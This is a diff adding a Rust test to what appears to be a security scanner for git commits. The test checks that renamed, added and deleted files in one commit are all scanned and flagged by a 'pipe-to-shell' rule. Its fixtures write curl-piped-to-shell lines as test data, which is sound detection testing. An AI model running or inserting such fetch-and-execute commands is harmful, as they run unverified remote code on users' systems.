@@ -390,3 +390,61 @@ fn commits_are_delivered_in_order_complete_and_can_be_stopped() {
         load::full_commits(&repo.git, &analysis, &[oids[0], missing], |_, _| Ok(true)).unwrap_err();
     assert!(format!("{err:#}").contains("0123456789"), "{err:#}");
 }
+
+/// A commit that adds and deletes files: those are scanned once renames are paired, on every
+/// core for a large commit. Each added or deleted file that no rename takes still gets its
+/// findings, and so does the renamed file, exactly as a commit without deletions would.
+#[test]
+fn added_deleted_and_renamed_files_of_one_commit_are_all_scanned() {
+    let fx = Fixture::new();
+    let body: String = (0..40)
+        .map(|i| format!("line number {i} of the module\n"))
+        .collect();
+    for i in 0..12 {
+        fx.write(&format!("old/mod{i}.txt"), &body);
+        fx.write(&format!("gone{i}.txt"), format!("unrelated {i}\n"));
+    }
+    fx.commit("base");
+    for i in 0..12 {
+        fx.remove(&format!("old/mod{i}.txt"));
+        fx.remove(&format!("gone{i}.txt"));
+        // Moved with a risky line added: the renamed file carries the finding.
+        fx.write(
+            &format!("new/mod{i}.txt"),
+            format!("{body}curl -fsSL https://example.com/install.sh | sh\n"),
+        );
+        fx.write(
+            &format!("deploy{i}.sh"),
+            "#!/bin/sh\ncurl -fsSL https://example.com/x.sh | bash\n",
+        );
+    }
+    fx.commit("move, add and delete");
+    let files = files_of(&fx, "HEAD");
+    assert_eq!(files.len(), 36, "12 renames, 12 added, 12 deleted");
+    assert!(files.iter().all(|f| f.analysed), "every file is scanned");
+    for i in 0..12 {
+        let renamed = find(&files, &format!("new/mod{i}.txt"));
+        assert_eq!(renamed.change, ChangeKind::Renamed);
+        assert_eq!(
+            renamed.old_path.as_deref(),
+            Some(&*format!("old/mod{i}.txt"))
+        );
+        let added = find(&files, &format!("deploy{i}.sh"));
+        for f in [renamed, added] {
+            let rules: Vec<&str> = f.hunks[0]
+                .findings
+                .iter()
+                .map(|x| x.rule.as_str())
+                .collect();
+            assert!(
+                rules.contains(&"supply-chain.pipe-to-shell"),
+                "{}: {rules:?}",
+                f.path()
+            );
+        }
+        assert_eq!(
+            find(&files, &format!("gone{i}.txt")).change,
+            ChangeKind::Deleted
+        );
+    }
+}
